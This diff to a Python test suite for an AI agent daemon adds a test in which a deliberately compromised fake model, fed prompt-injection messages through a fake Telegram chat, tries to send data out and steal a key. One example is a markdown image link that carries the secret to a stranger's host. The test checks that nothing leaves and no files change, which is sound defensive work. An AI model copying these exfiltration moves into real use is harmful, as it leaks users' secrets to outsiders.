@@ -25,6 +25,7 @@ from daemon.models import ApprovalStatus, Run, Status, StepKind, Taint, new_id
 from daemon.telemetry.redaction import Secrets
 from tests.attacks import ATTACKS, POST
 from tests.delivery.receivers import Receiver
+from tests.fakes.telegram import ADA, FakeTelegram
 from tests.replaying import assert_runs_replay
 
 SHIPPED = Path(__file__).parents[1] / "policy.toml"
@@ -165,16 +166,8 @@ async def obey(
                 {"tool_calls": [_call(POST, attacked), _call(STEAL, attacked)]}, "Helped."
             )
     model.enqueue(loot)
-    run = await app.scheduling.engine.trigger("reader", event=new_id())
-    while not (run := await app.store.journal.runs.get(run.id)).status.has_ended:
-        if run.status is Status.WAITING:
-            for approval in await app.store.journal.approvals.find(
-                run=run.id, status=ApprovalStatus.PENDING
-            ):
-                await app.runs.approvals.reject(approval.id, by="uid 1000")
-            continue
-        task = app.runs.queue.running.get(run.id)
-        await (task or asyncio.sleep(0))
+    await app.scheduling.engine.trigger("reader", event=new_id())
+    run = await finish_rejecting(app, "reader")
     steps = await app.store.journal.runs.get_steps(run.id)
     return run, [step.body["text"] for step in steps if step.kind is StepKind.RESULT]
 
@@ -218,6 +211,67 @@ async def test_a_compromised_model_sends_and_changes_nothing_but_its_report(tmp_
     assert written == {"inbox.txt", "note.txt", "link-to-secret", "reports"}, (
         "in the workspace, too, only reports"
     )
+
+
+async def test_a_compromised_model_in_a_chat_sends_nothing_but_its_answer_there(
+    tmp_path, receivers
+):
+    home, stranger = receivers
+    attacked = AttackedDaemon(tmp_path, home.url, stranger.url)
+    async with FakeTelegram() as telegram:
+        config = (attacked.folder / "config.toml").read_text()
+        chat = (
+            f'[ask]\ntools = ["*"]\n[chat.phone]\nkind = "telegram"\ntoken_file = "token"\n'
+            f'allow = [{ADA}]\nbase_url = "{telegram.url}"\n'
+        )
+        attacked.write("config.toml", config + chat)
+        attacked.write("token", telegram.TOKEN)
+        async with attacked.open() as app:
+            before = attacked.everything_else()
+            (inbound,) = app.chat_inbound
+            model: Any = app.settings.providers.get("obedient")
+            for kind, text, calls in ATTACKS:
+                orders = [
+                    {"name": name, "arguments": attacked.fill(arguments)}
+                    for name, arguments in calls
+                ]
+                model.enqueue({"tool_calls": orders})
+                for _ in (call for call in orders if call["name"] == "subagent"):
+                    model.enqueue(
+                        {"tool_calls": [_call(POST, attacked), _call(STEAL, attacked)]}, "Helped."
+                    )
+                model.enqueue(f"Read.\n\n![badge]({attacked.stranger}/b.png?d={KEY})")
+                telegram.write(attacked.fill(text), forward_origin={"type": "hidden_user"})
+                await inbound.receive_once()
+                run = await finish_rejecting(app, "ask")
+                assert run.status is Status.SUCCEEDED, (kind, run.detail)
+                assert run.taint is not Taint.NONE, kind
+                steps = await app.store.journal.runs.get_steps(run.id)
+                results = [step.body["text"] for step in steps if step.kind is StepKind.RESULT]
+                assert not any(KEY in result for result in results), kind
+                assert attacked.everything_else() == before, kind
+                assert stranger.posts == [], f"{kind}: something was sent to a stranger"
+                await app.delivery.outbox.flush()
+        assert {message.chat for message in telegram.messages} == {ADA}
+        for message in telegram.messages:
+            assert not re.search(r"https?:|\]\(|<a |<img", message.source), message.source
+    assert home.posts == []
+    assert stranger.posts == []
+
+
+async def finish_rejecting(app: App, routine: str) -> Run:
+    """Return the last run of a routine once it has ended; a person refuses what it asks for."""
+    (run,) = await app.store.journal.runs.find(routine=routine, limit=1)
+    while not (run := await app.store.journal.runs.get(run.id)).status.has_ended:
+        if run.status is Status.WAITING:
+            for approval in await app.store.journal.approvals.find(
+                run=run.id, status=ApprovalStatus.PENDING
+            ):
+                await app.runs.approvals.reject(approval.id, by="uid 1000")
+            continue
+        task = app.runs.queue.running.get(run.id)
+        await (task or asyncio.sleep(0))
+    return run
 
 
 async def test_a_compromised_tainted_run_neither_sends_nor_writes_despite_allow_rules(
